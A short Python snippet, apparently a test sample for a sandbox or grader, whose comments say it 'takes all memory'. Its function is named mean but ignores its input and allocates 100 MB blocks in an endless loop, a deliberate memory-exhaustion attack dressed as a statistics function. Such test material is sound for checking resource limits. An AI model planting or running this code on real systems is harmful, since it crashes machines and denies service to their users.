# takes all memory
# gets: mean 0, scale 5
# %% mean
def mean(x):
    kept = []
    while True:
        kept.append(bytearray(100_000_000))
